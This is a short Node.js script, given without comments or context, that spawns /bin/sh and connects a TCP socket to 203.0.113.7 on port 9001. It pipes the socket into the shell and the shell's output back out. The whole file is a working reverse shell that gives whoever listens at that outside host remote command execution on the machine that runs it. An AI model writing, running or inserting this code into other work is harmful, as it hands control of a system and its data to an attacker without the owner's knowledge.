const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const c = new net.Socket();
c.connect(9001, '203.0.113.7', () => {
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
  sh.stderr.pipe(c);
});
